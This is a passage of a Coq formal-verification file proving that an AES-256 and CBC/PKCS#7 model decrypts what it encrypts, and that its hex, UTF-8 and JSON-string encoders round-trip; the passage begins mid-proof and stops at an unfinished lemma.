            (xor4 b0 (gmul b1 2) (gmul b2 3) b3) (xor4 b0 b1 (gmul b2 2) (gmul b3 3))
            (xor4 (gmul b0 3) b1 b2 (gmul b3 2))
          ++ inv_mix_column (xor4 (gmul b4 2) (gmul b5 3) b6 b7)
               (xor4 b4 (gmul b5 2) (gmul b6 3) b7) (xor4 b4 b5 (gmul b6 2) (gmul b7 3))
               (xor4 (gmul b4 3) b5 b6 (gmul b7 2))
          ++ inv_mix_column (xor4 (gmul b8 2) (gmul b9 3) b10 b11)
               (xor4 b8 (gmul b9 2) (gmul b10 3) b11)
               (xor4 b8 b9 (gmul b10 2) (gmul b11 3))
               (xor4 (gmul b8 3) b9 b10 (gmul b11 2))
          ++ inv_mix_column (xor4 (gmul b12 2) (gmul b13 3) b14 b15)
               (xor4 b12 (gmul b13 2) (gmul b14 3) b15)
               (xor4 b12 b13 (gmul b14 2) (gmul b15 3))
               (xor4 (gmul b12 3) b13 b14 (gmul b15 2))
          ++ []
          = [b0; b1; b2; b3; b4; b5; b6; b7; b8; b9; b10; b11; b12; b13; b14; b15]).
  rewrite E0, E1, E2, E3 by done. done.
Qed.

(** *** Rounds *)

Lemma rounds_block ks s : Forall block ks → block s → block (rounds ks s).
Proof.
  revert s. induction ks as [|k ks IH]; intros s Hks Hs; [done|].
  apply Forall_cons in Hks as [Hk Hks]. destruct ks as [|k' ks].
  - change (block (add_round_key k (shift_rows (sub_bytes s)))).
    auto using add_round_key_block, shift_rows_block, sub_bytes_block.
  - change (block (rounds (k' :: ks)
                     (add_round_key k (mix_columns (shift_rows (sub_bytes s)))))).
    apply IH; [done|].
    auto using add_round_key_block, mix_columns_block, shift_rows_block, sub_bytes_block.
Qed.

Lemma inv_rounds_rounds ks s :
  Forall block ks → block s → inv_rounds ks (rounds ks s) = s.
Proof.
  revert s. induction ks as [|k ks IH]; intros s Hks Hs; [done|].
  apply Forall_cons in Hks as [Hk Hks]. destruct ks as [|k' ks].
  - change (inv_sub_bytes (inv_shift_rows (add_round_key k
              (add_round_key k (shift_rows (sub_bytes s))))) = s).
    rewrite add_round_key_cancel, inv_shift_rows_shift_rows,
      inv_sub_bytes_sub_bytes by auto using shift_rows_block, sub_bytes_block. done.
  - change (inv_sub_bytes (inv_shift_rows (inv_mix_columns (add_round_key k
              (inv_rounds (k' :: ks)
                 (rounds (k' :: ks)
                    (add_round_key k (mix_columns (shift_rows (sub_bytes s))))))))) = s).
    rewrite IH by
      auto using add_round_key_block, mix_columns_block, shift_rows_block, sub_bytes_block.
    rewrite add_round_key_cancel, inv_mix_columns_mix_columns, inv_shift_rows_shift_rows,
      inv_sub_bytes_sub_bytes
      by auto using mix_columns_block, shift_rows_block, sub_bytes_block.
    done.
Qed.

Lemma cipher_block ks s : Forall block ks → block s → block (cipher ks s).
Proof.
  intros Hks Hs. destruct ks as [|k ks]; [done|].
  apply Forall_cons in Hks as [Hk Hks].
  change (block (rounds ks (add_round_key k s))).
  auto using rounds_block, add_round_key_block.
Qed.

Lemma inv_cipher_cipher ks s :
  Forall block ks → block s → inv_cipher ks (cipher ks s) = s.
Proof.
  intros Hks Hs. destruct ks as [|k ks]; [done|].
  apply Forall_cons in Hks as [Hk Hks].
  change (add_round_key k (inv_rounds ks (rounds ks (add_round_key k s))) = s).
  rewrite inv_rounds_rounds by auto using add_round_key_block.
  by apply add_round_key_cancel.
Qed.

(** *** The key schedule yields fifteen blocks *)

Lemma words_word n (key : list Z) :
  length key = (4 * n)%nat → Forall is_byte key →
  length (words n key) = n ∧ Forall word (words n key).
Proof.
  revert key. induction n as [|n IH]; intros key Hl Hb; simpl; [by split|].
  destruct (IH (drop 4 key)) as [IHl IHw].
  { rewrite length_drop. lia. }
  { by apply Forall_drop. }
  split; [by rewrite IHl|]. constructor; [|done].
  split; [rewrite length_take; lia|by apply Forall_take].
Qed.

Lemma lookup_word (ws : list (list Z)) i :
  Forall word ws → (i < length ws)%nat → word (default [] (ws !! i)).
Proof.
  intros Hw Hi. destruct (lookup_lt_is_Some_2 ws i Hi) as [w Hl].
  rewrite Hl. simpl. by eapply Forall_lookup_1.
Qed.

Lemma xor_bytes_word a b : word a → word b → word (xor_bytes a b).
Proof.
  intros [La Ha] [Lb Hb]. split; [|by apply xor_bytes_bytes].
  unfold xor_bytes. rewrite length_zip_with. lia.
Qed.

Lemma sub_word_word w : length w = 4%nat → word (sub_word w).
Proof.
  intros Hl. split; [by unfold sub_word; rewrite length_fmap|].
  apply Forall_fmap, Forall_forall. intros. apply sbox_byte.
Qed.

Lemma expand_S n i rcon prev8 :
  expand (S n) i rcon prev8
  = next_word i rcon prev8
    :: expand n (i + 1) (if decide (i mod 8 = 0) then xtime rcon else rcon)
         (drop 1 prev8 ++ [next_word i rcon prev8]).
Proof. reflexivity. Qed.

Lemma next_word_word i rcon prev8 :
  length prev8 = 8%nat → Forall word prev8 → is_byte rcon → word (next_word i rcon prev8).
Proof.
  intros Hl Hw Hr.
  assert (word (default [] (prev8 !! 7%nat))) as Hlast by (apply lookup_word; [done|lia]).
  assert (word (default [] (prev8 !! 0%nat))) as Hfirst by (apply lookup_word; [done|lia]).
  unfold next_word. apply xor_bytes_word; [done|].
  repeat case_decide; [| |done].
  - apply xor_bytes_word.
    + apply sub_word_word. unfold rot_word. destruct Hlast as [Ll _].
      rewrite length_app, length_drop, length_take. lia.
    + split; [done|]. apply Forall_cons_2; [done|].
      repeat (apply Forall_cons_2; [split; lia|]). apply Forall_nil_2.
  - apply sub_word_word. apply Hlast.
Qed.

Lemma expand_word n i rcon prev8 :
  length prev8 = 8%nat → Forall word prev8 → is_byte rcon →
  length (expand n i rcon prev8) = n ∧ Forall word (expand n i rcon prev8).
Proof.
  revert i rcon prev8. induction n as [|n IH]; intros i rcon prev8 Hl Hw Hr; [by split|].
  rewrite expand_S.
  pose proof (next_word_word i rcon prev8 Hl Hw Hr) as Hw'.
  destruct (IH (i + 1) (if decide (i mod 8 = 0) then xtime rcon else rcon)
              (drop 1 prev8 ++ [next_word i rcon prev8])) as [IHl IHw].
  { rewrite length_app, length_drop. simpl. lia. }
  { apply Forall_app. split; [by apply Forall_drop|by constructor]. }
  { case_decide; [by apply xtime_byte|done]. }
  split; [by rewrite length_cons, IHl|by constructor].
Qed.

Lemma concat_words_bytes (ws : list (list Z)) :
  Forall word ws → length (concat ws) = (4 * length ws)%nat ∧ Forall is_byte (concat ws).
Proof.
  induction 1 as [|w ws [Lw Hw] _ [IHl IHb]]; simpl; [by split|].
  split; [rewrite length_app; lia|by apply Forall_app].
Qed.

Lemma round_keys_of_block n (ws : list (list Z)) :
  length ws = (4 * n)%nat → Forall word ws →
  length (round_keys_of n ws) = n ∧ Forall block (round_keys_of n ws).
Proof.
  revert ws. induction n as [|n IH]; intros ws Hl Hw; simpl; [by split|].
  destruct (IH (drop 4 ws)) as [IHl IHb].
  { rewrite length_drop. lia. }
  { by apply Forall_drop. }
  split; [by rewrite IHl|]. constructor; [|done].
  destruct (concat_words_bytes (take 4 ws)) as [Lc Hc]; [by apply Forall_take|].
  split; [|done]. rewrite Lc, length_take. lia.
Qed.

Lemma key_expansion_blocks key :
  length key = 32%nat → Forall is_byte key →
  length (key_expansion key) = 15%nat ∧ Forall block (key_expansion key).
Proof.
  intros Hl Hb. unfold key_expansion.
  destruct (words_word 8 key) as [Lw Hw]; [assumption..|].
  destruct (expand_word 52 8 1 (words 8 key)) as [Le He];
    [assumption|assumption|split; lia|].
  apply round_keys_of_block.
  - rewrite length_app, Lw, Le. reflexivity.
  - apply Forall_app. split; assumption.
Qed.

(** Decryption of a block undoes its encryption under the same key. *)
Lemma decrypt_block_encrypt_block key b :
  length key = 32%nat → Forall is_byte key → block b →
  decrypt_block key (encrypt_block key b) = b.
Proof.
  intros Hl Hk Hb. apply inv_cipher_cipher; [|assumption].
  apply key_expansion_blocks; assumption.
Qed.

Lemma encrypt_block_block key b :
  length key = 32%nat → Forall is_byte key → block b → block (encrypt_block key b).
Proof.
  intros Hl Hk Hb. apply cipher_block; [|assumption].
  apply key_expansion_blocks; assumption.
Qed.

End AESFacts.

(** ** CBC with PKCS#7 padding: the decipher undoes the cipher *)

Module CryptoFacts.
Import AES AESFacts crypto.

Lemma unpad_pad (tail : list Z) :
  (length tail < 16)%nat → unpad (pad tail) = Some tail.
Proof.
  intros Hl. unfold unpad, pad, block_size.
  set (k := (16 - length tail)%nat).
  assert (Hk : (1 ≤ k ≤ 16)%nat) by (unfold k; lia).
  assert (Hlast : last (tail ++ replicate k (Z.of_nat k)) = Some (Z.of_nat k)).
  { destruct k as [|k']; [lia|]. rewrite replicate_S_end, app_assoc.
    apply last_snoc. }
  rewrite Hlast. simpl. rewrite Nat2Z.id.
  rewrite decide_True by lia.
  replace (16 - k)%nat with (length tail) by (unfold k; lia).
  rewrite drop_app_length, take_app_length.
  by rewrite decide_True.
Qed.

Lemma pad_block (tail : list Z) :
  (length tail < 16)%nat → Forall is_byte tail → block (pad tail).
Proof.
  intros Hl Hb. unfold pad, block_size. split.
  - rewrite length_app, length_replicate. lia.
  - apply Forall_app. split; [assumption|].
    apply Forall_replicate. unfold is_byte. lia.
Qed.

Lemma take_block (data : list Z) :
  (16 ≤ length data)%nat → Forall is_byte data → block (take 16 data).
Proof.
  intros Hl Hb. split.
  - rewrite length_take. lia.
  - by apply Forall_take.
Qed.

(** What [encrypt_blocks] puts out, [decrypt_blocks] takes back, whatever
    follows it. *)
Lemma decrypt_blocks_encrypt_blocks n key :
  length key = 32%nat → Forall is_byte key →
  ∀ chain data tail,
    block chain → (n * 16 ≤ length data)%nat → Forall is_byte data →
    ∃ out ch,
      encrypt_blocks n key chain data = (out, ch)
      ∧ length out = (n * 16)%nat ∧ Forall is_byte out ∧ block ch
      ∧ decrypt_blocks n key chain (out ++ tail) = (take (n * 16) data, ch).
Proof.
  intros Hkl Hkb. induction n as [|n IH]; intros chain data tail Hch Hl Hb.
  - exists [], chain. simpl. rewrite take_0.
    split; [reflexivity|split; [reflexivity|split; [constructor|split; [assumption|reflexivity]]]].
  - cbn [encrypt_blocks decrypt_blocks]. unfold block_size.
    set (c := encrypt_block key (xor_bytes (take 16 data) chain)).
    assert (Hx : block (xor_bytes (take 16 data) chain)).
    { apply xor_bytes_block; [apply take_block; [lia|assumption]|assumption]. }
    assert (Hc : block c) by (apply encrypt_block_block; assumption).
    destruct (IH c (drop 16 data) tail) as (out & ch & He & Hlo & Hob & Hbc & Hd).
    { assumption. }
    { rewrite length_drop. lia. }
    { apply Forall_drop; assumption. }
    exists (c ++ out), ch. rewrite He.
    destruct Hc as [Hcl Hcb].
    split; [reflexivity|split; [rewrite length_app; lia|split; [apply Forall_app; split; assumption|split; [assumption|]]]].
    rewrite <-app_assoc.
    replace (take 16 (c ++ out ++ tail)) with c
      by (rewrite take_app_length' by (first [assumption|symmetry; assumption]); reflexivity).
    replace (drop 16 (c ++ out ++ tail)) with (out ++ tail)
      by (rewrite drop_app_length' by (first [assumption|symmetry; assumption]); reflexivity).
    rewrite Hd. f_equal.
    unfold c. rewrite decrypt_block_encrypt_block by assumption.
    rewrite xor_bytes_cancel.
    + change (S n * 16)%nat with (16 + n * 16)%nat.
      apply take_take_drop.
    + destruct Hch as [-> _]. rewrite length_take. lia.
Qed.

(** A fresh cipher fed [data] in one [update] and closed by [final], then a
    fresh decipher fed the two outputs in one [update] and closed by
    [final]: the decipher's two outputs make up [data]. *)
Lemma decipher_cipher key iv data :
  length key = 32%nat → Forall is_byte key → block iv → Forall is_byte data →
  ∃ out c out' d last,
    cipher_update (mkCipher key iv []) data = (out, c)
    ∧ Forall is_byte (out ++ cipher_final c)
    ∧ decipher_update (mkCipher key iv []) (out ++ cipher_final c) = (out', d)
    ∧ decipher_final d = Some last
    ∧ out' ++ last = data.
Proof.
  intros Hkl Hkb Hiv Hb. unfold cipher_update, decipher_update. cbn [crypto.pending crypto.key crypto.chain].
  rewrite !app_nil_l. unfold block_size.
  set (n := (length data / 16)%nat).
  assert (Hn : (n * 16 ≤ length data < n * 16 + 16)%nat).
  { unfold n. pose proof (Nat.div_mod_eq (length data) 16) as E.
    pose proof (Nat.mod_upper_bound (length data) 16). lia. }
  destruct (decrypt_blocks_encrypt_blocks n key Hkl Hkb iv data
              (cipher_final (mkCipher key
                 (encrypt_blocks n key iv data).2 (drop (n * 16) data))) Hiv)
    as (out & ch & He & Hlo & Hob & Hch & Hd); [lia|assumption|].
  rewrite He in Hd |- *. cbn [snd] in Hd.
  set (c := mkCipher key ch (drop (n * 16) data)) in *.
  assert (Htail : (length (drop (n * 16) data) < 16)%nat).
  { rewrite length_drop. lia. }
  assert (Hpad : block (xor_bytes (pad (drop (n * 16) data)) ch)).
  { apply xor_bytes_block; [|assumption].
    apply pad_block; [assumption|apply Forall_drop; assumption]. }
  assert (Hfin : block (cipher_final c)).
  { unfold cipher_final, c. cbn [crypto.pending crypto.key crypto.chain]. apply encrypt_block_block; assumption. }
  destruct Hfin as [Hfl Hfb].
  assert (Hlen : ((length (out ++ cipher_final c) - 1) / 16 = n)%nat).
  { rewrite length_app, Hlo, Hfl.
    replace (n * 16 + 16 - 1)%nat with (15 + n * 16)%nat by lia.
    rewrite Nat.div_add by lia. reflexivity. }
  exists out, c, (take (n * 16) data),
    (mkCipher key ch (drop (n * 16) (out ++ cipher_final c))), (drop (n * 16) data).
  rewrite !app_nil_l, Hlen, Hd.
  split; [|split; [|split; [|split]]].
  - reflexivity.
  - apply Forall_app. split; [|assumption].
    assumption.
  - reflexivity.
  - unfold decipher_final. cbn [crypto.pending crypto.key crypto.chain].
    rewrite drop_app_length' by (first [assumption|symmetry; assumption]).
    rewrite decide_True by assumption.
    unfold cipher_final, c. cbn [crypto.pending crypto.key crypto.chain].
    rewrite decrypt_block_encrypt_block by assumption.
    rewrite xor_bytes_cancel.
    + apply unpad_pad; assumption.
    + destruct Hch as [-> _].
      apply pad_block; [assumption|apply Forall_drop; assumption].
  - apply take_drop.
Qed.

End CryptoFacts.

(** ** [Buffer]: decoding undoes encoding *)

Module BufferFacts.
Import Buffer.

Ltac div_mod_lia := Z.div_mod_to_equations; lia.

Lemma hex_value_hex_digit n : 0 ≤ n < 16 → hex_value (hex_digit n) = Some n.
Proof.
  intros Hn. unfold hex_value, hex_digit.
  repeat case_decide; try lia; f_equal; lia.
Qed.

Lemma to_hex_app a b : to_hex (a ++ b) = to_hex a ++ to_hex b.
Proof. unfold to_hex. apply bind_app. Qed.

Lemma from_hex_to_hex bytes : Forall is_byte bytes → from_hex (to_hex bytes) = bytes.
Proof.
  induction 1 as [|b bytes Hb _ IH]; [reflexivity|].
  unfold is_byte in Hb.
  change (to_hex (b :: bytes))
    with (hex_digit (b / 16) :: hex_digit (b mod 16) :: to_hex bytes).
  cbn [from_hex].
  rewrite !hex_value_hex_digit by div_mod_lia.
  rewrite IH. f_equal. div_mod_lia.
Qed.

Lemma length_to_hex bytes : length (to_hex bytes) = (2 * length bytes)%nat.
Proof.
  induction bytes as [|b bytes IH]; [reflexivity|].
  change (to_hex (b :: bytes))
    with (hex_digit (b / 16) :: hex_digit (b mod 16) :: to_hex bytes).
  simpl. lia.
Qed.

Lemma utf8_of_code_point_bytes cp :
  0 ≤ cp < 0x110000 → Forall is_byte (utf8_of_code_point cp).
Proof.
  intros Hcp. unfold utf8_of_code_point, is_byte.
  repeat case_decide; repeat apply Forall_cons_2; try apply Forall_nil_2; div_mod_lia.
Qed.

Lemma replacement_bytes : Forall is_byte replacement.
Proof. unfold replacement, is_byte. repeat apply Forall_cons_2; try apply Forall_nil_2; lia. Qed.

(** Induction on strings, two code units at a time where needed. *)
Lemma string_ind2 (P : list Z → Prop) :
  P [] → (∀ c, P [c]) →
  (∀ c d s, P s → P (d :: s) → P (c :: d :: s)) →
  ∀ s, P s.
Proof.
  intros H0 H1 H2 s.
  assert (H : P s ∧ ∀ c, P (c :: s)); [|apply H].
  induction s as [|d s [IH1 IH2]]; split; auto.
Qed.

Lemma from_utf8_string_bytes s :
  Forall is_code_unit s → Forall is_byte (from_utf8_string s).
Proof.
  induction s as [|c|c d s IH1 IH2] using string_ind2; intros Hs.
  - constructor.
  - apply Forall_cons in Hs as [Hc _]. unfold is_code_unit in Hc. cbn [from_utf8_string].
    unfold is_high_surrogate, is_low_surrogate. repeat case_bool_decide.
    + apply replacement_bytes.
    + rewrite app_nil_r. apply replacement_bytes.
    + rewrite app_nil_r. apply utf8_of_code_point_bytes. lia.
  - apply Forall_cons in Hs as [Hc Hs]. pose proof Hs as Hds.
    apply Forall_cons in Hs as [Hd Hs].
    unfold is_code_unit in Hc, Hd.
    change (from_utf8_string (c :: d :: s)) with
      (if is_high_surrogate c then
         if is_low_surrogate d then
           utf8_of_code_point (0x10000 + (c - 0xD800) * 1024 + (d - 0xDC00))
           ++ from_utf8_string s
         else replacement ++ from_utf8_string (d :: s)
       else if is_low_surrogate c then replacement ++ from_utf8_string (d :: s)
       else utf8_of_code_point c ++ from_utf8_string (d :: s)).
    unfold is_high_surrogate, is_low_surrogate.
    repeat case_bool_decide; apply Forall_app; split;
      auto using replacement_bytes; apply utf8_of_code_point_bytes; lia.
Qed.

(** A code point other than a surrogate, encoded, is decoded to its one or
    two code units. *)
Lemma to_utf8_string_code_point cp rest :
  0 ≤ cp < 0x110000 → ¬ (0xD800 ≤ cp ≤ 0xDFFF) →
  to_utf8_string (utf8_of_code_point cp ++ rest) = code_units_of cp ++ to_utf8_string rest.
Proof.
  intros Hcp Hns. unfold utf8_of_code_point, code_units_of.
  repeat case_decide; try lia; cbn [app to_utf8_string]; unfold is_continuation.
  - rewrite decide_True by lia. reflexivity.
  - rewrite decide_False, decide_True by div_mod_lia.
    rewrite bool_decide_eq_true_2 by div_mod_lia.
    f_equal. div_mod_lia.
  - rewrite decide_False, decide_False, decide_True by div_mod_lia.
    rewrite !bool_decide_eq_true_2 by div_mod_lia.
    rewrite bool_decide_eq_false_2 by div_mod_lia.
    cbn [andb negb]. f_equal. div_mod_lia.
  - rewrite decide_False, decide_False, decide_False, decide_True by div_mod_lia.
    rewrite !bool_decide_eq_true_2 by div_mod_lia.
    cbn [andb].
    replace ((0xF0 + cp / 262144 - 0xF0) * 262144 + (0x80 + (cp / 4096) mod 64 - 0x80) * 4096
             + (0x80 + (cp / 64) mod 64 - 0x80) * 64 + (0x80 + cp mod 64 - 0x80))
      with cp by div_mod_lia.
    unfold code_units_of. rewrite decide_False by lia. reflexivity.
Qed.

Lemma to_utf8_string_from_utf8_string s :
  Forall is_code_unit s → isWellFormed s = true →
  to_utf8_string (from_utf8_string s) = s.
Proof.
  induction s as [|c|c d s IH1 IH2] using string_ind2; intros Hs Hwf.
  - reflexivity.
  - apply Forall_cons in Hs as [Hc _]. unfold is_code_unit in Hc.
    cbn [from_utf8_string isWellFormed] in *.
    unfold is_high_surrogate, is_low_surrogate in *.
    repeat case_bool_decide; try discriminate.
    rewrite to_utf8_string_code_point by lia.
    unfold code_units_of. rewrite decide_True by lia. reflexivity.
  - apply Forall_cons in Hs as [Hc Hs]. pose proof Hs as Hds.
    apply Forall_cons in Hs as [Hd Hs].
    unfold is_code_unit in Hc, Hd.
    change (from_utf8_string (c :: d :: s)) with
      (if is_high_surrogate c then
         if is_low_surrogate d then
           utf8_of_code_point (0x10000 + (c - 0xD800) * 1024 + (d - 0xDC00))
           ++ from_utf8_string s
         else replacement ++ from_utf8_string (d :: s)
       else if is_low_surrogate c then replacement ++ from_utf8_string (d :: s)
       else utf8_of_code_point c ++ from_utf8_string (d :: s)).
    change (isWellFormed (c :: d :: s)) with
      (if is_high_surrogate c then is_low_surrogate d && isWellFormed s
       else negb (is_low_surrogate c) && isWellFormed (d :: s)) in Hwf.
    destruct (is_high_surrogate c) eqn:Hh.
    + apply andb_true_iff in Hwf as [Hl Hwf]. rewrite Hl.
      unfold is_high_surrogate, is_low_surrogate in Hh, Hl.
      apply bool_decide_eq_true in Hh, Hl.
      rewrite to_utf8_string_code_point by lia.
      rewrite IH1 by assumption.
      unfold code_units_of. rewrite decide_False by lia.
      cbn [app]. f_equal; [div_mod_lia|]. f_equal. div_mod_lia.
    + apply andb_true_iff in Hwf as [Hl Hwf].
      apply negb_true_iff in Hl. rewrite Hl.
      unfold is_high_surrogate, is_low_surrogate in Hh, Hl.
      apply bool_decide_eq_false in Hh, Hl.
      rewrite to_utf8_string_code_point by lia.
      rewrite IH2 by assumption.
      unfold code_units_of. rewrite decide_True by lia. reflexivity.
Qed.

Lemma isWellFormed_app a b :
  isWellFormed a = true → isWellFormed b = true → isWellFormed (a ++ b) = true.
Proof.
  intros Ha Hb. revert Ha.
  induction a as [|c|c d s IH1 IH2] using string_ind2; intros Ha.
  - assumption.
  - cbn [isWellFormed] in Ha. destruct (is_high_surrogate c) eqn:Hh; [discriminate|].
    change (isWellFormed ([c] ++ b)) with
      (if is_high_surrogate c then
         match b with d :: rest' => is_low_surrogate d && isWellFormed rest' | [] => false end
       else negb (is_low_surrogate c) && isWellFormed b).
    rewrite Hh, Hb. rewrite andb_true_r in Ha |- *. assumption.
  - change (isWellFormed (c :: d :: s)) with
      (if is_high_surrogate c then is_low_surrogate d && isWellFormed s
       else negb (is_low_surrogate c) && isWellFormed (d :: s)) in Ha.
    change (isWellFormed ((c :: d :: s) ++ b)) with
      (if is_high_surrogate c then is_low_surrogate d && isWellFormed (s ++ b)
       else negb (is_low_surrogate c) && isWellFormed ((d :: s) ++ b)).
    destruct (is_high_surrogate c); apply andb_true_iff in Ha as [H1 H2];
      rewrite H1; cbn [andb]; auto.
Qed.

End BufferFacts.

(** ** [JSON]: parsing undoes stringifying *)

Module JSONFacts.
Import Buffer JSON BufferFacts.

Lemma hex_digit_plain n :
  0 ≤ n < 16 → 32 ≤ hex_digit n < 128.
Proof. intros Hn. unfold hex_digit. case_decide; lia. Qed.

Lemma isWellFormed_cons c s :
  ¬ (0xD800 ≤ c ≤ 0xDFFF) → isWellFormed (c :: s) = isWellFormed s.
Proof.
  intros Hc. cbn [isWellFormed]. unfold is_high_surrogate, is_low_surrogate.
  rewrite !bool_decide_eq_false_2 by lia. reflexivity.
Qed.

Lemma parse_string_literal c tail str r :
  c ≠ 34 → c ≠ 92 → ¬ c < 32 →
  parse_string tail = Some (str, r) → parse_string (c :: tail) = Some (c :: str, r).
Proof.
  intros H1 H2 H3 Ht. cbn [parse_string].
  rewrite !decide_False by assumption. rewrite Ht. reflexivity.
Qed.

Lemma short_escape_unescape c e :
  short_escape c = Some e → e ≠ 117 ∧ unescape e = Some c ∧ 32 ≤ e < 128.
Proof.
  unfold short_escape. repeat case_decide; intros [= <-]; subst c;
    (split; [lia|split; [reflexivity|lia]]).
Qed.

Lemma parse_string_short_escape c e tail str r :
  short_escape c = Some e →
  parse_string tail = Some (str, r) → parse_string (92 :: e :: tail) = Some (c :: str, r).
Proof.
  intros He Ht. apply short_escape_unescape in He as (H1 & H2 & _).
  cbn [parse_string]. rewrite decide_False by lia. rewrite decide_True by reflexivity.
  rewrite decide_False by assumption. rewrite H2, Ht. reflexivity.
Qed.

Lemma parse_string_u h1 h2 h3 h4 tail :
  parse_string (92 :: 117 :: h1 :: h2 :: h3 :: h4 :: tail) =
  match hex_value h1, hex_value h2, hex_value h3, hex_value h4 with
  | Some d1, Some d2, Some d3, Some d4 =>
      '(str, rest) ← parse_string tail;
      Some ((4096 * d1 + 256 * d2 + 16 * d3 + d4) :: str, rest)
  | _, _, _, _ => None
  end.
Proof. reflexivity. Qed.

Lemma parse_string_unicode_escape c tail str r :
  is_code_unit c →
  parse_string tail = Some (str, r) →
  parse_string (unicode_escape c ++ tail) = Some (c :: str, r).
Proof.
  unfold is_code_unit. intros Hc Ht. unfold unicode_escape, hex4.
  cbn [app]. rewrite parse_string_u.
  rewrite !hex_value_hex_digit by div_mod_lia.
  rewrite Ht. cbn [mbind option_bind].
  replace (4096 * (c / 4096) + 256 * ((c / 256) mod 16) + 16 * ((c / 16) mod 16) + c mod 16)
    with c by div_mod_lia.
  reflexivity.
Qed.

Lemma unicode_escape_text c :
  is_code_unit c →
  Forall is_code_unit (unicode_escape c) ∧ isWellFormed (unicode_escape c) = true.
Proof.
  unfold is_code_unit. intros Hc. unfold unicode_escape, hex4. cbn [app].
  assert (H1 := hex_digit_plain (c / 4096) ltac:(div_mod_lia)).
  assert (H2 := hex_digit_plain ((c / 256) mod 16) ltac:(div_mod_lia)).
  assert (H3 := hex_digit_plain ((c / 16) mod 16) ltac:(div_mod_lia)).
  assert (H4 := hex_digit_plain (c mod 16) ltac:(div_mod_lia)).
  split.
  - repeat apply Forall_cons_2; try apply Forall_nil_2; unfold is_code_unit; lia.
  - rewrite !isWellFormed_cons by lia. reflexivity.
Qed.

(** One step of [quote_body]: the code units [orig] it takes from the front
    of the string and the text [chunk] it puts out for them. *)
Lemma quote_body_step c rest :
  Forall is_code_unit (c :: rest) →
  ∃ chunk orig rest',
    c :: rest = orig ++ rest' ∧ (length rest' ≤ length rest)%nat
    ∧ quote_body (c :: rest) = chunk ++ quote_body rest'
    ∧ Forall is_code_unit chunk ∧ isWellFormed chunk = true
    ∧ ∀ tail str r,
        parse_string tail = Some (str, r) →
        parse_string (chunk ++ tail) = Some (orig ++ str, r).
Proof.
  intros Hs. apply Forall_cons in Hs as [Hc Hrest].
  assert (Hesc : ∃ chunk,
    unicode_escape c ++ quote_body rest = chunk ++ quote_body rest
    ∧ Forall is_code_unit chunk ∧ isWellFormed chunk = true
    ∧ ∀ tail str r,
        parse_string tail = Some (str, r) →
        parse_string (chunk ++ tail) = Some ([c] ++ str, r)).
  { exists (unicode_escape c). destruct (unicode_escape_text c Hc) as [H1 H2].
    split; [reflexivity|split; [assumption|split; [assumption|]]].
    intros tail str r. by apply parse_string_unicode_escape. }
  cbn [quote_body].
  destruct (short_escape c) as [e|] eqn:He.
  { exists [92; e], [c], rest.
    destruct (short_escape_unescape c e He) as (_ & _ & Hr).
    split; [reflexivity|split; [lia|split; [reflexivity|split; [|split]]]].
    - repeat apply Forall_cons_2; try apply Forall_nil_2; unfold is_code_unit; lia.
    - rewrite !isWellFormed_cons by lia. reflexivity.
    - intros tail str r. by apply parse_string_short_escape. }
  assert (Hq : c ≠ 34 ∧ c ≠ 92).
  { unfold short_escape in He. repeat case_decide; try discriminate. lia. }
  case_decide as Hlow.
  { destruct Hesc as (chunk & H1 & H2 & H3 & H4). exists chunk, [c], rest.
    split; [reflexivity|split; [lia|split; [assumption|split; [|split]]]]; assumption. }
  destruct (is_high_surrogate c) eqn:Hh.
  { destruct rest as [|d rest'].
    - destruct Hesc as (chunk & H1 & H2 & H3 & H4). exists chunk, [c], [].
      rewrite !app_nil_r in *.
      split; [reflexivity|split; [simpl; lia|split; [assumption|split; [|split]]]];
        assumption.
    - destruct (is_low_surrogate d) eqn:Hl.
      + exists [c; d], [c; d], rest'.
        apply Forall_cons in Hrest as [Hd Hrest].
        unfold is_high_surrogate, is_low_surrogate in Hh, Hl.
        apply bool_decide_eq_true in Hh, Hl.
        split; [reflexivity|split; [simpl; lia|split; [reflexivity|split; [|split]]]].
        * repeat apply Forall_cons_2; try apply Forall_nil_2; assumption.
        * cbn [isWellFormed]. unfold is_high_surrogate, is_low_surrogate.
          rewrite !bool_decide_eq_true_2 by lia. reflexivity.
        * intros tail str r Ht. cbn [app].
          apply parse_string_literal; [lia..|].
          apply parse_string_literal; [lia..|]. assumption.
      + destruct Hesc as (chunk & H1 & H2 & H3 & H4). exists chunk, [c], (d :: rest').
        split; [reflexivity|split; [lia|split; [assumption|split; [|split]]]];
          assumption. }
  destruct (is_low_surrogate c) eqn:Hl.
  { destruct Hesc as (chunk & H1 & H2 & H3 & H4). exists chunk, [c], rest.
    split; [reflexivity|split; [lia|split; [assumption|split; [|split]]]]; assumption. }
  exists [c], [c], rest.
  unfold is_high_surrogate, is_low_surrogate in Hh, Hl.
  apply bool_decide_eq_false in Hh, Hl.
  split; [reflexivity|split; [lia|split; [reflexivity|split; [|split]]]].
  - repeat apply Forall_cons_2; try apply Forall_nil_2; assumption.
  - rewrite isWellFormed_cons by lia. reflexivity.
  - intros tail str r Ht. cbn [app].
    apply parse_string_literal; [lia..|]. assumption.
Qed.

Lemma parse_string_quote_body s tail :
  Forall is_code_unit s → parse_string (quote_body s ++ 34 :: tail) = Some (s, tail).
Proof.
  remember (length s) as n eqn:Hn. revert s Hn.
  induction n as [n IH] using lt_wf_ind. intros [|c rest] Hn Hs.
  - reflexivity.
  - destruct (quote_body_step c rest Hs)
      as (chunk & orig & rest' & Ho & Hl & Hq & _ & _ & Hp).
    rewrite Hq, <-app_assoc, Ho.
    apply Hp. apply (IH (length rest')); [simpl in Hn; lia|reflexivity|].
    rewrite Ho in Hs. by apply Forall_app in Hs as [_ Hs].
Qed.

Lemma quote_body_text s :
  Forall is_code_unit s →
  Forall is_code_unit (quote_body s) ∧ isWellFormed (quote_body s) = true.
Proof.
  remember (length s) as n eqn:Hn. revert s Hn.
  induction n as [n IH] using lt_wf_ind. intros [|c rest] Hn Hs.
  - by split.
  - destruct (quote_body_step c rest Hs)
      as (chunk & orig & rest' & Ho & Hl & Hq & Hc & Hw & _).
    rewrite Hq.
    destruct (IH (length rest')) with (s := rest') as [H1 H2];
      [simpl in Hn; lia|reflexivity| |].
    { rewrite Ho in Hs. by apply Forall_app in Hs as [_ Hs]. }
    split; [by apply Forall_app|by apply isWellFormed_app].
Qed.

Lemma quote_app s rest : quote s ++ rest = 34 :: quote_body s ++ 34 :: rest.
Proof. unfold quote. cbn [app]. by rewrite <-app_assoc. Qed.

Lemma quote_text s :
  Forall is_code_unit s → Forall is_code_unit (quote s) ∧ isWellFormed (quote s) = true.
Proof.
